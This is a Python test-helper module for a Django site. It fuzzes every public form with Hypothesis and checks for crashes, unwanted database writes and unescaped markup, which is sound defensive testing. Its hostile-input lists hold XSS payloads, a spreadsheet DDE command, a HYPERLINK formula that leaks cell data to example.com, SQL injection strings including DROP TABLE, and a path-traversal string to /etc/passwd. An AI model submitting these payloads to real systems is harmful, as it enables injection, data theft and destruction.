"""Property tests (hypothesis): random and hostile input against every public form and import.

Every example must start from the same state, but hypothesis runs all examples of a test inside
one call of the test function, whose fixtures are set up once. So each example runs inside
``isolated()``: a savepoint rolled back afterwards (the database), an empty cache (rate limits)
and a new test client (cookies, session). The checks every example makes:

- ``checked(response)``: never a 500, and no exception escaped the view (the client is made with
  ``raise_request_exception=False``, so a crash shows as a status code and in ``exc_info``);
- ``database_state()`` before and after: either the whole write happened (each test checks what
  it wrote) or nothing changed (``assert_unchanged``);
- ``assert_escaped(response)``: markup a person typed never comes back unescaped.

The profile keeps the run bounded (``max_examples``) and writes no ``.hypothesis`` directory into
the checkout; with ``CI`` set, examples are derandomised so a CI run is reproducible. Set
``HYPOTHESIS_PROFILE=thorough`` locally to hunt with ten times more examples.
"""

from __future__ import annotations

import os
import tempfile
import traceback
from contextlib import contextmanager
from dataclasses import dataclass

from django.apps import apps
from django.core.cache import cache
from django.db import transaction
from django.test import Client
from django.utils.datastructures import MultiValueDict
from hypothesis import HealthCheck, Phase, event, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

# Hypothesis keeps a directory of its own (examples, constants it found in the code): in the
# system's temporary directory, never in the checkout.
set_hypothesis_home_dir(os.path.join(tempfile.gettempdir(), "moteplass-hypothesis"))


def _ci() -> bool:
    return os.environ.get("CI", "").strip().lower() not in ("", "0", "false", "no", "off")


_COMMON = {
    "deadline": None,
    "database": None,  # failing examples are not saved: a run starts afresh
    "derandomize": _ci(),
    "print_blob": True,
    # no "explain" phase: it reruns a failing example hundreds of times on a slow machine
    "phases": [Phase.explicit, Phase.reuse, Phase.generate, Phase.target, Phase.shrink],
    "suppress_health_check": [
        HealthCheck.function_scoped_fixture,  # isolated() resets the state of each example
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.filter_too_much,
    ],
}
settings.register_profile("moteplass", max_examples=50, **_COMMON)
settings.register_profile("thorough", max_examples=400, **_COMMON)
settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "moteplass"))


# --- state of each example -----------------------------------------------------------------------


class _RollBack(Exception):
    pass


@contextmanager
def isolated():
    """Run one example in a savepoint that is rolled back, with an empty cache."""
    cache.clear()
    try:
        with transaction.atomic():
            yield
            raise _RollBack
    except _RollBack:
        pass
    finally:
        cache.clear()


def new_client(user=None, *, language: str | None = None) -> Client:
    """A client that turns a crash into a 500 response (with ``exc_info``) instead of raising."""
    client = Client(raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    if language:
        client.cookies["moteplass_language"] = language
    return client


# The apps whose tables a form could write (the project's, allauth's); not sessions or caches.
SNAPSHOT_APPS = {"moteplass", "partners", "telemarksplanen", "conferences", "account", "mfa"}


def database_state() -> dict[str, list[tuple]]:
    """Every row of every table of the project's apps (many-to-many tables included)."""
    return {
        model._meta.db_table: list(model._base_manager.order_by("pk").values_list())
        for model in apps.get_models(include_auto_created=True)
        if model._meta.app_label in SNAPSHOT_APPS
    }


def changed_tables(before: dict, after: dict) -> list[str]:
    return sorted(table for table in before if before[table] != after[table])


def assert_unchanged(before: dict, after: dict, response=None) -> None:
    changed = changed_tables(before, after)
    status = f" (status {response.status_code})" if response is not None else ""
    assert changed == [], f"a refused request changed {changed}{status}"


# --- responses -----------------------------------------------------------------------------------


def checked(response):
    """The response, after checking that the view did not crash."""
    if response.exc_info is not None:
        _kind, error, trace = response.exc_info
        text = "".join(traceback.format_exception(type(error), error, trace))
        raise AssertionError(f"the view raised {error!r} ({response.status_code}):\n{text}")
    assert response.status_code < 500, f"status {response.status_code}"
    return response


# Markup a person might type; it must never come back as markup.
MARKUP = (
    "<script>alert('møteplass')</script>",
    '"><img src=x onerror=alert(1)>',
    "<b onmouseover=alert(1)>fet</b>",
    "javascript:alert(1)//<svg/onload=alert(1)>",
)


def assert_escaped(response) -> None:
    body = response.content.decode("utf-8", errors="replace")
    for markup in MARKUP:
        assert markup not in body, f"{markup!r} is in the page unescaped"


# --- strategies ----------------------------------------------------------------------------------

HOSTILE = (
    *MARKUP,
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?x="&A1,"Klikk")',
    "+47 91 23 45 67",
    "-2+3",
    "@SUM(1+1)",
    "'; DROP TABLE conferences_registration; --",
    "' OR '1'='1",
    '" OR ""="',
    "\x00",
    "Kari\x00Nordmann",
    "\x00" * 5,
    "\u202eesrever\u202c",  # right-to-left override
    "\u200b\u200d\ufeff",  # zero-width characters, byte order mark
    "\u2028\u2029",
    "\r\n\r\n",
    "\t",
    " ",
    "",
    "%00",
    "%s %d %(name)s {0} {name}",
    "{{ request }}{% debug %}",
    "../../../../etc/passwd",
    "Ǆ ǅ ǆ ß İ ﬀ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "Øyvind Æsøy-Ås",
    "Áile Ŋuolja-Čáhppes",
    "💩" * 70,
    "null",
    "None",
    "true",
    "[]",
    "{}",
    "0",
    "-1",
    "1e309",
    "NaN",
    "9" * 40,
    "-9" * 20,
    "0x7fffffff",
    "2026-02-30",
    "31.12.2026",
    "25:61",
    "ä" * 151,
    "a" * 201,
    "x" * 5000,
    "ɐ" * 100_001,
)


def _long(character_strategy) -> st.SearchStrategy[str]:
    return st.tuples(character_strategy, st.integers(min_value=100, max_value=12_000)).map(
        lambda pair: pair[0] * pair[1]
    )


# Control characters, format characters (RTL overrides, zero-width) and separators.
controls = st.text(
    alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs"]), min_size=1, max_size=8
)

hostile_text = st.one_of(
    st.text(max_size=60),  # any valid Unicode (no surrogates: not valid in HTTP)
    st.sampled_from(HOSTILE),
    st.tuples(st.sampled_from(HOSTILE), st.text(max_size=20), controls).map("".join),
    _long(st.characters(codec="utf-8", exclude_categories=["Cs"])),
)


@dataclass(frozen=True)
class Field:
    """A posted field: its valid values and its hostile ones."""

    valid: st.SearchStrategy
    hostile: st.SearchStrategy

    def bad(self) -> st.SearchStrategy:
        """A hostile value, several values where one is expected, or the field left out."""
        several = st.lists(st.one_of(self.valid, self.hostile), min_size=2, max_size=3)
        return st.one_of(self.hostile, self.hostile, several, st.just(OMIT))

    def any(self) -> st.SearchStrategy:
        return st.one_of(self.valid, self.bad())


def field(valid: st.SearchStrategy, *, hostile=hostile_text) -> Field:
    return Field(valid, hostile)


OMIT = object()


def as_data(post: dict) -> MultiValueDict:
    """What a form reads from ``post`` as the test client sends it (a list: several values)."""
    return MultiValueDict(
        {name: value if isinstance(value, list) else [value] for name, value in post.items()}
    )


@st.composite
def form(draw, fields: dict[str, Field]) -> dict:
    """POST data for ``{name: field(...)}``: a third of the examples wholly valid (so the write
    itself is checked), a third with one or two fields spoilt (what slips past one check), a
    third with any field spoilt. Omitted fields are left out."""
    mode = draw(st.sampled_from(["valid", "few", "any"]))
    spoilt = set()
    if mode == "few":
        spoilt = set(draw(st.lists(st.sampled_from(sorted(fields)), min_size=1, max_size=2)))
    data = {}
    for name, spec in fields.items():
        if mode == "any":
            value = draw(spec.any())
        else:
            value = draw(spec.bad() if name in spoilt else spec.valid)
        if value is not OMIT:
            data[name] = value
    return data


def any_integer_text() -> st.SearchStrategy[str]:
    """Numbers as people and attackers write them: small, negative, beyond 64 bits, floats."""
    return st.one_of(
        st.integers(min_value=-10, max_value=1000).map(str),
        st.integers(min_value=2**31 - 2, max_value=2**64 + 2).map(str),
        st.integers().map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(str),
        st.sampled_from(["", " 1", "1 ", "01", "1_000", "١٢", "+5", "0x10", "1e3"]),
    )


def tokens() -> st.SearchStrategy[str]:
    """Tokens for an address: right-looking, random, hostile (the caller quotes them)."""
    return st.one_of(
        st.text(
            alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
            min_size=1,
            max_size=64,
        ),
        st.uuids().map(str),
        st.text(min_size=1, max_size=80).filter(lambda text: text not in (".", "..")),
        st.sampled_from(
            ["\x00", "a\x00b", "%00", "' OR 1=1 --", "<script>", "x" * 300, " ", "..."]
        ),
    )


def post_form(client, url: str, post: dict):
    """Post a form as a person would, inside :func:`isolated`, and check what every form must:
    no crash (:func:`checked`), user text escaped, and when the form comes back (200, with its
    errors) no change at all. Returns the response, or None when the form came back."""
    before = database_state()
    response = checked(client.post(url, post))
    assert_escaped(response)
    event(f"status {response.status_code}")
    if response.status_code == 200:
        assert_unchanged(before, database_state(), response)
        return None
    return response
